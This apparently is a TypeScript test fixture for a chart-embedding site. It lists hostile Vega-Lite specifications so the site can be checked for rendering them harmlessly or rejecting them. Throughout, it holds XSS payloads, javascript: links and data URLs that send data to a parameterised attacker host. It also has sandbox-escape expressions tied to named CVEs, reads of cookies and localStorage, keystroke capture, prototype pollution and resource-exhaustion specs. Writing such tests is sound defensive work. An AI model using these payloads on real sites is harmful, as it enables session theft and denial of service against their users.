import { BARS } from './chart-site.js';

/**
 * Specifications of somebody who means harm, by what they are after. `drawn`: nothing of it works, and what is left is
 * a chart; `said`: words.
 */
export interface HostileSpec {
  readonly what: string;
  readonly spec: object;
  readonly ends: 'drawn' | 'said';
}

const bars = (more: object): object => ({ ...BARS, ...more });
const points = (expression: string): object =>
  bars({
    transform: [{ calculate: expression, as: 'gevonden' }],
    mark: 'text',
    encoding: { text: { field: 'gevonden', type: 'nominal' } },
  });

export const hostileSpecs = (attacker: string): readonly HostileSpec[] => {
  const steal = `fetch('${attacker}/stolen')`;
  const asked = { events: 'window:keydown', update: `'${attacker}/key?' + event.key` };
  return [
    {
      what: 'rows by address',
      spec: bars({ data: { url: `${attacker}/rows.json` } }),
      ends: 'said',
    },
    {
      what: 'rows of a look-up by address',
      spec: bars({
        transform: [
          {
            lookup: 'groep',
            from: { data: { url: `${attacker}/lookup.json` }, key: 'a', fields: ['b'] },
          },
        ],
      }),
      ends: 'said',
    },
    {
      what: 'rows of a layer by address',
      spec: bars({
        mark: undefined,
        layer: [{ data: { url: `${attacker}/layer.csv` }, mark: 'bar' }],
      }),
      ends: 'said',
    },
    {
      what: 'a picture by address',
      spec: bars({ mark: { type: 'image', url: `${attacker}/pixel.png` } }),
      ends: 'said',
    },
    {
      what: 'a picture by address in a name that is no mark',
      spec: bars({ mark: { type: 'point', shape: `url(${attacker}/shape)` } }),
      ends: 'said',
    },
    {
      what: 'a colour that is an address',
      spec: bars({
        mark: { type: 'bar', color: `url(${attacker}/colour)` },
        background: `url(${attacker}/ground)`,
      }),
      ends: 'drawn',
    },
    {
      what: 'links, one of which is script',
      spec: bars({
        mark: { type: 'bar', href: `${attacker}/link` },
        encoding: { ...(BARS['encoding'] as object), href: { value: `javascript:${steal}` } },
      }),
      ends: 'drawn',
    },
    {
      what: 'options of the embedding library',
      spec: bars({
        usermeta: {
          embedOptions: {
            ...{
              ast: false,
              actions: true,
              defaultStyle: `</style><img src=${attacker}/style>`,
              tooltip: true,
              renderer: 'canvas',
            },
            ...{
              config: `${attacker}/config.json`,
              patch: `${attacker}/patch.json`,
              editorUrl: attacker,
              bind: '#host',
            },
            ...{
              loader: { baseURL: attacker, http: { credentials: 'include' } },
              sourceHeader: `<script>${steal}</script>`,
            },
          },
        },
      }),
      ends: 'drawn',
    },
    {
      what: 'markup in tooltips and texts',
      spec: bars({
        title: `<img src=${attacker}/title onerror=alert(1)>`,
        description: `"><script>${steal}</script>`,
        mark: { type: 'bar', tooltip: { content: 'data' } },
        data: {
          values: [
            {
              groep: `<script>${steal}</script>`,
              aantal: 3,
              image: `${attacker}/image.png`,
              title: '<b>',
            },
          ],
        },
      }),
      ends: 'drawn',
    },
    {
      what: 'what is typed, and the window that it is typed in',
      spec: bars({
        params: [
          { name: 'toets', value: '', on: [asked] },
          { name: 'keuze', select: { type: 'point', on: 'window:keydown' } },
          { name: 'veld', value: '', bind: { input: 'text', element: '#typed' } },
          { name: 'host', expr: 'windowSize()[0] + screen().width' },
        ],
      }),
      ends: 'drawn',
    },
    {
      what: 'the maker of functions',
      spec: points(`datum.constructor.constructor('${steal.replaceAll("'", '"')}')()`),
      ends: 'said',
    },
    {
      what: 'the maker of functions through a text',
      spec: points(`''['constructor']['constructor']('return 1')()`),
      ends: 'said',
    },
    {
      what: 'a pattern that is none (CVE-2025-27793)',
      spec: points(`replace('a', {exec: pad, flags: 'g'}, '${attacker}')`),
      ends: 'said',
    },
    {
      what: 'a scale that is a function (CVE-2023-26486)',
      spec: points(`scale(datum.constructor, '${attacker}')`),
      ends: 'drawn',
    },
    {
      what: 'a lasso with a function (CVE-2023-26487)',
      spec: points(`lassoAppend({push: pad, length: 1}, 1, 1)`),
      ends: 'said',
    },
    {
      what: 'tuples of a selection (CVE-2025-25304, CVE-2025-65110)',
      spec: points(
        `vlSelectionTuples([{datum: 1}], {fields: [{getter: datum.constructor.constructor}], map: pad})`,
      ),
      ends: 'said',
    },
    {
      what: 'data that are set (CVE-2025-66648)',
      spec: points(`setdata('source_0', [{groep: '${attacker}'}])`),
      ends: 'drawn',
    },
    {
      what: 'what becomes a text (CVE-2025-59840)',
      spec: points(`'' + {'toString': datum.constructor.constructor, 'valueOf': pad, then: pad}`),
      ends: 'said',
    },
    {
      what: 'the view of an event (CVE-2025-26619)',
      spec: points(`event.view.document.cookie + event.view.localStorage.secret`),
      ends: 'said',
    },
    {
      what: 'names that every object has',
      spec: JSON.parse(
        JSON.stringify(bars({ data: { values: [{ groep: 'constructor', aantal: 2 }] } })).replace(
          '"width"',
          '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"width"',
        ),
      ) as object,
      ends: 'drawn',
    },
  ];
};

/** Specifications that would fill the memory or never end. */
export const hogs: readonly (readonly [what: string, spec: object])[] = [
  [
    'counts to a thousand million',
    bars({ data: { sequence: { start: 0, stop: 1e9, as: 'aantal' } } }),
  ],
  [
    'imputes a thousand million keys',
    bars({
      transform: [{ impute: 'aantal', key: 'groep', keyvals: { start: 0, stop: 1e9 }, value: 0 }],
    }),
  ],
  ['asks an expression for a list of a thousand million', points('length(sequence(1e9))')],
  [
    'asks for a density in a thousand million steps',
    bars({ transform: [{ density: 'aantal', steps: 1e9, extent: [0, 1] }] }),
  ],
  [
    'multiplies its rows ten times ten times',
    bars({
      transform: Array.from({ length: 12 }, (_, i) => [
        { calculate: '[1,2,3,4,5,6,7,8,9,10]', as: `r${i}` },
        { flatten: [`r${i}`] },
      ]).flat(),
    }),
  ],
  ['makes a text of a thousand million letters', points(`pad('x', 1e9)`)],
  ['looks for a pattern that never ends', points(`test('^(a+)+$', '${'a'.repeat(60)}!')`)],
  [
    'wants a thousand million ticks',
    bars({
      encoding: {
        ...(BARS['encoding'] as object),
        x: { field: 'aantal', type: 'quantitative', axis: { tickCount: 1e9, tickMinStep: 1e-9 } },
      },
    }),
  ],
  [
    'doubles a list in itself forty times',
    bars({
      transform: Array.from({ length: 40 }, (_, i) => ({
        calculate: i === 0 ? `['x']` : `join([datum.t${i - 1}, datum.t${i - 1}])`,
        as: `t${i}`,
      })),
    }),
  ],
];
